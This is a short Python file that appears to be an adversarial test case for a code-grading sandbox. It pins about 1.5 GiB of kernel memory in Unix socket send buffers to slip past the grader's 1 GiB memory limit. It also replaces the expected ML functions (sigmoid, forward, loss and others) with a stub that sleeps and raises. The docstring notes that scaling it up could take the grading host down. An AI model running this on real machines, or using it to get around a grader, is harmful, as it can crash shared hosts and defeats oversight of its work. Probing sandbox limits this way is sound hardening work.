"""Attack: hold ~1.5 GiB of kernel memory in Unix socket send buffers (SO_SNDBUF raised to wmem_max, both ends of 96 socket pairs filled) from one process whose address-space limit is 1 GiB; socket buffers are neither address space nor charged to a memory cgroup. Expected: the grader's memory limit does not bind it (a win on any branch without a socket-memory bound); 32 processes x 256 fds could pin tens of GiB and take the grading host down."""

import os
import socket
import time

TARGET = 1536 << 20  # kept modest on a shared machine: enough to pass the 1 GiB limit
HELD: list[socket.socket] = []
queued = 0
started = time.monotonic()
while queued < TARGET and len(HELD) < 200:
    try:
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    except OSError:
        break
    HELD += [a, b]
    for end in (a, b):
        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 20)  # clamped to wmem_max, then doubled
        end.setblocking(False)
        chunk = b"\1" * (4 << 20)
        while queued < TARGET:
            try:
                queued += end.send(chunk)
            except BlockingIOError:
                break
print(
    f"queued {queued >> 20} MiB in {len(HELD)} sockets in {time.monotonic() - started:.1f} s (pid {os.getpid()})"
)


def _hold(*args: object) -> object:
    time.sleep(2.0)  # keep it while the test runs; the outside measures the machine's free memory
    raise RuntimeError(f"held {queued >> 20} MiB of socket buffers")


sigmoid = forward = loss = backward = train_step = _hold
